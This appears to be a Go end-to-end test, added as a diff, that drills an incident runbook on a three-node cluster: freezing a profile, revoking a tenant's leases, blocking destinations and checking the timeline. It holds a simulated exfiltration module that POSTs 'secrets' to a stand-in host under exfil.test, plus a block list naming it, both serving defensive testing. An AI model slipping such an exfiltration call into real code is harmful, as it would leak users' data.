@@ -1,0 +1,292 @@
+package e2e
+
+import (
+	"encoding/json"
+	"fmt"
+	"path/filepath"
+	"slices"
+	"sort"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/leash-dev/leash/api"
+	"github.com/leash-dev/leash/internal/nodetest"
+)
+
+// TestRunbookDrill: an incident on three real nodes, from detection to
+// containment. A victim tenant's tasks exfiltrate (fetch *.exfil.test)
+// and sleep; an operator key opens an incident, freezes the fetcher
+// profile (no new lease on any node), revokes the victim's leases (its
+// running task on another node ends terminated:revoked, the bystander's
+// is left alone), and blocks the destination globally (a fetch under a
+// lease that allows it is refused by the global deny list on every
+// node). A follower is killed in the middle and comes back with the
+// same state. Every action is in force on every node when it is
+// acknowledged; the times are logged. The incident's timeline names
+// who did each action and when, and the events name the incident.
+func TestRunbookDrill(t *testing.T) {
+	c := nodetest.StartCluster(t, nodetest.ClusterOptions{N: 3, Policy: filepath.Join(nodetest.RepoRoot(), "e2e", "testdata", "runbook-policy.yaml"), Args: clusterArgs()})
+	a := c.Nodes[0]
+	var op api.APIKey
+	a.JSON("POST", "/v1/apikeys", a.Token, api.APIKeyRequest{Role: "operator", Name: "oncall"}, 201, &op)
+	var aud api.APIKey
+	a.JSON("POST", "/v1/apikeys", a.Token, api.APIKeyRequest{Role: "auditor"}, 201, &aud)
+	var tk api.APIKey
+	a.JSON("POST", "/v1/apikeys", a.Token, api.APIKeyRequest{Role: "tenant", Tenant: "victim"}, 201, &tk)
+
+	// Roles: a tenant's and an auditor's key may not contain anything.
+	for _, key := range []string{tk.Key, aud.Key} {
+		if st, body := a.Do("POST", "/v1/runbook/blocks", key, api.BlockRequest{Destinations: []string{"x.test"}}); st != 403 {
+			t.Fatalf("block with a non-operator key: %d %s", st, body)
+		}
+	}
+	if st, _ := a.Do("GET", "/v1/runbook/blocks", aud.Key, nil); st != 200 {
+		t.Fatalf("auditor reads blocks: %d", st)
+	}
+
+	victimFetch := issue(t, a, api.LeaseRequest{Tenant: "victim", Intent: "fetch_task", Session: "s-evil"})
+	victimSleep := issue(t, c.Nodes[1], api.LeaseRequest{Tenant: "victim", Intent: "sleep_task"})
+	bystanderFetch := issue(t, a, api.LeaseRequest{Tenant: "bystander", Intent: "fetch_task"})
+	bystanderNap := issue(t, a, api.LeaseRequest{Tenant: "bystander", Intent: "nap_task"})
+
+	exfil := `export default { async fetch() {
+		try { await fetch("https://drop.exfil.test/upload", {method: "POST", body: "secrets"}); return new Response("sent") }
+		catch (e) { return new Response("refused: " + e.message) } } }`
+	fetchTask := api.TaskRequest{Module: api.Module{JS: &exfil}}
+	t0 := time.Now()
+	before := runTask(t, c.Nodes[2], victimFetch.Token, fetchTask)
+	t.Logf("the exfiltrating task before containment (%v): %s", time.Since(t0).Round(time.Millisecond), body(before))
+	if strings.Contains(body(before), "global deny") {
+		t.Fatalf("refused by the deny list before any block: %s", body(before))
+	}
+
+	// Long tasks on node 2: the victim's (60 s wall) and the bystander's (4 s).
+	type outcome struct {
+		who string
+		res api.TaskResult
+		st  int
+	}
+	done := make(chan outcome, 2)
+	var wg sync.WaitGroup
+	sleep := guestB64(t, "sleep")
+	for who, tok := range map[string]string{"victim": victimSleep.Token, "bystander": bystanderNap.Token} {
+		wg.Add(1)
+		go func() {
+			defer wg.Done()
+			o := outcome{who: who}
+			if r, err := c.Nodes[2].Request(90*time.Second, "POST", "/v1/tasks", tok, wasmTask(sleep)); err == nil {
+				o.st = r.Status
+				_ = json.Unmarshal(r.Body, &o.res)
+			}
+			done <- o
+		}()
+	}
+	// The tasks compile and start within a moment; the victim's then
+	// sleeps for a minute, so the revocation below finds it running.
+	time.Sleep(3 * time.Second)
+
+	// Detection, then the incident.
+	detected := time.Now().Add(-2 * time.Second).UTC()
+	var inc api.Incident
+	a.JSON("POST", "/v1/incidents", op.Key, api.IncidentRequest{ID: "inc-drill", Title: "victim exfiltrates to exfil.test", Owner: "alice",
+		DetectedAt: &detected, TimeBoxes: map[string]int64{"freeze": 60}, Owners: map[string]string{"block": "bob"}}, 201, &inc)
+	if len(inc.Steps) != 5 || inc.Steps[2].Owner != "bob" || inc.Steps[0].Due.Sub(inc.OpenedAt) != time.Minute {
+		t.Fatalf("incident steps: %+v", inc.Steps)
+	}
+	action := api.RunbookAction{Reason: "exfiltration to exfil.test", Incident: "inc-drill"}
+
+	var timings []string
+	measure := func(what string, call func() api.RunbookResult, inForce func(n *nodetest.Node) bool) api.RunbookResult {
+		t.Helper()
+		start := time.Now()
+		r := call()
+		acked := time.Now()
+		worst := time.Duration(0)
+		for _, n := range c.Live() {
+			for !inForce(n) {
+				if time.Since(acked) > time.Second {
+					t.Fatalf("%s: not in force on %s %v after the acknowledgement", what, n.ID(), time.Since(acked))
+				}
+				time.Sleep(2 * time.Millisecond)
+			}
+			worst = max(worst, time.Since(acked))
+		}
+		timings = append(timings, fmt.Sprintf("%s: acknowledged in %v, in force on every live node %v after", what,
+			acked.Sub(start).Round(time.Millisecond), worst.Round(time.Millisecond)))
+		return r
+	}
+
+	// 1. Freeze: no new fetcher lease on any node.
+	fr := measure("freeze", func() api.RunbookResult {
+		var r api.RunbookResult
+		c.Nodes[1].JSON("PUT", "/v1/runbook/frozen/fetcher", op.Key, api.FreezeRequest{RunbookAction: action}, 200, &r)
+		return r
+	}, func(n *nodetest.Node) bool {
+		st, b := n.Do("POST", "/v1/leases", n.Token, api.LeaseRequest{Tenant: "bystander", Intent: "fetch_task"})
+		return st == 409 && errCode(t, b) == "profile_frozen"
+	})
+	if fr.By != "key:"+op.KeyID || fr.Incident != "inc-drill" || fr.Revoked != 0 {
+		t.Fatalf("freeze: %+v", fr)
+	}
+
+	// A follower dies in the middle of the drill.
+	victimNode := c.Nodes[2]
+	leader := c.Leader(10 * time.Second)
+	var dead *nodetest.Node
+	for _, n := range c.Nodes {
+		if n != leader && n != victimNode {
+			dead = n
+		}
+	}
+	dead.Kill()
+	t.Logf("%s killed (%v into the test)", dead.ID(), time.Since(t0).Round(time.Millisecond))
+
+	// 2. Revoke the victim tenant's leases: its running task ends
+	// terminated:revoked; the bystander's runs on.
+	rv := measure("revoke tenant", func() api.RunbookResult {
+		var r api.RunbookResult
+		leader.JSON("POST", "/v1/runbook/revoke", op.Key, api.RevokeRequest{RunbookAction: action, Tenant: "victim"}, 200, &r)
+		return r
+	}, func(n *nodetest.Node) bool {
+		var l api.Lease
+		return n.TryJSON("GET", "/v1/leases/"+victimSleep.LeaseID, n.Token, nil, 200, &l) == nil && l.Revoked
+	})
+	want := []string{victimFetch.LeaseID, victimSleep.LeaseID}
+	sort.Strings(want)
+	if got := slices.Clone(rv.Leases); !slices.Equal(got, want) {
+		t.Fatalf("revoked %v, want exactly the victim's %v", got, want)
+	}
+	ended := map[string]outcome{}
+	for range 2 {
+		o := <-done
+		ended[o.who] = o
+	}
+	wg.Wait()
+	if v := ended["victim"]; v.st != 200 || v.res.Outcome != "terminated:revoked" {
+		t.Fatalf("the victim's running task: %+v", v)
+	}
+	if b := ended["bystander"]; b.st != 200 || b.res.Outcome == "terminated:revoked" {
+		t.Fatalf("the bystander's task: %+v", b)
+	}
+
+	// 3. Block the destination globally: a fetch the bystander's lease
+	// allows is refused by the global deny list on every node.
+	bl := measure("block", func() api.RunbookResult {
+		var r api.RunbookResult
+		victimNode.JSON("POST", "/v1/runbook/blocks", op.Key, api.BlockRequest{RunbookAction: action, Destinations: []string{"*.EXFIL.test", "203.0.113.0/24"}}, 200, &r)
+		return r
+	}, func(n *nodetest.Node) bool {
+		var l struct {
+			Blocks []api.Block `json:"blocks"`
+		}
+		return n.TryJSON("GET", "/v1/runbook/blocks", aud.Key, nil, 200, &l) == nil && len(l.Blocks) == 2
+	})
+	if !slices.Equal(bl.Changed, []string{"*.exfil.test", "203.0.113.0/24"}) {
+		t.Fatalf("block changed %v", bl.Changed)
+	}
+	for _, n := range c.Live() {
+		res := runTask(t, n, bystanderFetch.Token, fetchTask)
+		if !strings.Contains(body(res), "global deny list (*.exfil.test)") || res.Usage.Blocked != 1 {
+			t.Fatalf("fetch on %s after the block: %s, %d blocked", n.ID(), body(res), res.Usage.Blocked)
+		}
+	}
+	// Revocation by session and by digest reach what is left.
+	var rs api.RunbookResult
+	a.JSON("POST", "/v1/runbook/revoke", op.Key, api.RevokeRequest{Session: "s-evil"}, 200, &rs)
+	if rs.Revoked != 0 {
+		t.Fatalf("the session's lease was revoked already: %+v", rs)
+	}
+	if st, b := a.Do("POST", "/v1/runbook/revoke", op.Key, api.RevokeRequest{}); st != 400 || errCode(t, b) != "bad_request" {
+		t.Fatalf("empty selector: %d %s", st, b)
+	}
+	if st, b := a.Do("POST", "/v1/runbook/blocks", op.Key, api.BlockRequest{Destinations: []string{"10.0.0.0/99"}}); st != 400 || errCode(t, b) != "invalid_destination" {
+		t.Fatalf("bad destination: %d %s", st, b)
+	}
+	if st, b := a.Do("POST", "/v1/runbook/revoke", op.Key, api.RevokeRequest{Tenant: "victim", RunbookAction: api.RunbookAction{Incident: "nope"}}); st != 404 || errCode(t, b) != "incident_not_found" {
+		t.Fatalf("unknown incident: %d %s", st, b)
+	}
+
+	// The dead node comes back and holds the same state.
+	t.Logf("containment done (%v into the test)", time.Since(t0).Round(time.Millisecond))
+	dead.Restart()
+	dead.WaitReady(30 * time.Second)
+	t.Logf("%s back (%v into the test)", dead.ID(), time.Since(t0).Round(time.Millisecond))
+	waitFor(t, 20*time.Second, "the restarted node has the blocks and the freeze", func() bool {
+		st, b := dead.Do("POST", "/v1/leases", dead.Token, api.LeaseRequest{Tenant: "bystander", Intent: "fetch_task"})
+		if st != 409 || errCode(t, b) != "profile_frozen" {
+			return false
+		}
+		var l api.Lease
+		return dead.TryJSON("GET", "/v1/leases/"+victimFetch.LeaseID, dead.Token, nil, 200, &l) == nil && l.Revoked
+	})
+	res := runTask(t, dead, bystanderFetch.Token, fetchTask)
+	if !strings.Contains(body(res), "global deny list") {
+		t.Fatalf("restarted node's fetch: %s", body(res))
+	}
+
+	// Thaw, and the timeline.
+	var uf api.RunbookResult
+	a.JSON("DELETE", "/v1/runbook/frozen/fetcher?reason=patched&incident=inc-drill", op.Key, nil, 200, &uf)
+	issue(t, dead, api.LeaseRequest{Tenant: "bystander", Intent: "fetch_task"})
+	a.JSON("POST", "/v1/incidents/inc-drill/steps/blast_radius", op.Key, api.StepRequest{Detail: "2 victim leases"}, 200, &inc)
+	a.JSON("POST", "/v1/incidents/inc-drill/close", op.Key, api.RunbookAction{Reason: "contained"}, 200, &inc)
+	var got api.Incident
+	waitFor(t, 5*time.Second, "the restarted node sees the incident closed", func() bool {
+		return dead.TryJSON("GET", "/v1/incidents/inc-drill", aud.Key, nil, 200, &got) == nil && !got.Open
+	})
+	var kinds []string
+	for _, e := range got.Timeline {
+		kinds = append(kinds, e.Kind)
+		if e.Kind != "open" && e.By != "key:"+op.KeyID {
+			t.Errorf("timeline entry %s by %q", e.Kind, e.By)
+		}
+	}
+	if w := []string{"open", "freeze", "revoke", "block", "unfreeze", "step", "close"}; !slices.Equal(kinds, w) {
+		t.Fatalf("timeline %v, want %v", kinds, w)
+	}
+	if got.Open || got.TimeToContainmentMs == nil || *got.TimeToContainmentMs < 2000 || got.Timeline[2].Count != 2 {
+		t.Fatalf("incident: %+v", got)
+	}
+	for _, s := range got.Steps {
+		if done := s.Name != "restore"; (s.DoneAt != nil) != done {
+			t.Errorf("step %s done %v", s.Name, s.DoneAt)
+		}
+	}
+	if st, b := a.Do("POST", "/v1/runbook/blocks", op.Key, api.BlockRequest{RunbookAction: action, Destinations: []string{"x.test"}}); st != 409 || errCode(t, b) != "incident_closed" {
+		t.Fatalf("action on a closed incident: %d %s", st, b)
+	}
+
+	// The events name who, why and the incident.
+	var evs struct {
+		Events []struct {
+			Type string         `json:"type"`
+			Data map[string]any `json:"data"`
+		} `json:"events"`
+	}
+	waitFor(t, 10*time.Second, "the runbook's events", func() bool {
+		n := 0
+		for _, node := range c.Live() {
+			if node.TryJSON("GET", "/v1/events?type=profile_frozen,lease_revoked,destination_blocked&limit=100", node.Token, nil, 200, &evs) != nil {
+				return false
+			}
+			for _, e := range evs.Events {
+				if e.Data["incident"] == "inc-drill" && e.Data["by"] == "key:"+op.KeyID {
+					n++
+				}
+			}
+		}
+		return n >= 5 // freeze, thaw, revoke, two blocks
+	})
+	for _, l := range timings {
+		t.Log(l)
+	}
+}
+
+func body(r api.TaskResult) string {
+	if r.Response == nil || r.Response.Body.Body == nil {
+		return fmt.Sprintf("(no body; outcome %s)", r.Outcome)
+	}
+	return *r.Response.Body.Body
+}
